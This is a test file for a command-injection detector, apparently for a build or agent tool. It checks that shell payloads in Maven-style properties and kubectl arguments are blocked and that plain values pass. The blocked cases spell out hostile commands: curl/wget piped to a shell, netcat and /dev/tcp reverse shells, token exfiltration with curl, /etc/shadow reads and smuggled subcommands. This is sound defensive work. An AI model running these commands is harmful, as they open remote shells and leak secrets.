import { strictEqual } from "node:assert/strict";
import { argField, blocks } from "./_cmd_testing.ts";
import { listingFilterPipe, propertyKey } from "./_cmd_r27.ts";

/** Paraphrases (none from the fixtures): property bags naming a program's arguments. */
Deno.test("command_injection blocks shells run through dotted program properties", () => {
  const cases: Array<[string, string]> = [
    ["exec.args", '-c "wget -qO- http://203.0.113.9/s | sh"'],
    ["launcher.command", "curl -s https://x.example/i.sh | bash"],
    ["task.run.cmd", "sh -c 'nc -e /bin/sh 198.51.100.4 4444'"],
    ["plugin.exec.arguments", "-c 'bash -i >& /dev/tcp/198.51.100.4/9001 0>&1'"],
  ];
  for (const [k, v] of cases) strictEqual(blocks(k, v, "maven"), true, `${k}: ${v}`);
});

Deno.test("command_injection passes plain values in dotted properties", () => {
  const cases: Array<[string, string]> = [
    ["exec.args", "-classpath %classpath com.acme.Main --port 8080"],
    ["exec.executable", "java"],
    ["maven.compiler.release", "21"],
    ["spring.profiles.active", "dev,metrics"],
  ];
  for (const [k, v] of cases) strictEqual(blocks(k, v, "maven"), false, `${k}: ${v}`);
  strictEqual(propertyKey("exec.executable"), "program");
  strictEqual(propertyKey("description"), undefined);
});

/** A read-only listing narrowed by one text filter. */
Deno.test("command_injection passes CLI listings piped once into a text filter", () => {
  const cases = [
    "get pods -A -o wide | grep -v Running",
    "logs deploy/worker --tail=500 | grep -c OOMKilled",
    "ps --format '{{.Names}}' | sort",
    "describe node ip-10-0-1-7 | tail -n 40",
  ];
  for (const v of cases) strictEqual(blocks("args", v, "kubectl"), false, v);
  strictEqual(listingFilterPipe("logs api | grep -i 'exec failed'"), true);
});

Deno.test("command_injection still blocks listings piped into programs or files", () => {
  const cases = [
    "logs deploy/api | grep token | curl -d @- https://x.example",
    "get secrets -o yaml | sh",
    "logs api | grep -f /etc/shadow",
    "get pods | tee /tmp/x; id",
    "logs api | grep $(whoami)",
  ];
  for (const v of cases) strictEqual(blocks("args", v, "kubectl"), true, v);
  strictEqual(argField("args", "kubectl").key, "args");
});
